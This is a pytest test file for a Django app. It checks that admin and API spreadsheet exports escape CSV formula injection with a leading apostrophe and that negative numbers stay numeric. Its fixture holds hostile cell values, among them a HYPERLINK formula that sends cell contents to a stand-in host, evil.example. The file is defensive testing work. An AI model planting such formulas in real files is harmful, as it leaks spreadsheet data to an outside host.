"""No export runs a formula in its reader's spreadsheet (OWASP, CSV injection): text cells that
start with =, +, -, @, a tab or a carriage return are written with a leading apostrophe, in the
admin's CSV and Excel exports and the API's CSV alike; numbers and imports stay as they are."""
import csv
import io
from decimal import Decimal

import pytest

from tests.factories import FundingCommitmentFactory, OrganizationFactory, PaymentFactory
from tests.spreadsheets import admin_export, csv_rows, xlsx_rows

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "name_ar": "+مؤسسة",
    "acronym": "@SUM(1)",
    "notes": "-2+3",
    "headquarters_city_en": "\tTab city",
    "headquarters_city_ar": "\rCR city",
}


@pytest.fixture
def hostile(empty_database):
    return OrganizationFactory(kind="other", **HOSTILE)


def assert_escaped(row):
    for field, value in HOSTILE.items():
        # (Excel files keep a carriage return as a line feed.)
        assert row[field].replace("\n", "\r") == "'" + value.replace("\n", "\r"), field


@pytest.mark.parametrize("file_format, read", [("csv", csv_rows), ("xlsx", xlsx_rows)])
def test_the_admin_export_escapes_formulas(hostile, admin_client, file_format, read):
    (row,) = read(admin_export(admin_client, "partners/organization", file_format=file_format))
    assert_escaped(row)


def test_the_api_csv_list_escapes_formulas(hostile, viewer_api):
    response = viewer_api.get("/api/organizations/", {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    assert_escaped(row)


def test_the_api_csv_record_escapes_formulas(hostile, viewer_api):
    response = viewer_api.get(f"/api/organizations/{hostile.pk}/", {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert_escaped(row)


def test_negative_numbers_stay_numbers(empty_database, viewer_api):
    commitment = FundingCommitmentFactory(amount=Decimal("100"))
    PaymentFactory(commitment=commitment, amount=Decimal("150"))
    response = viewer_api.get("/api/funding-commitments/", {"format": "csv"})
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    assert row["outstanding"] == "-50.000"

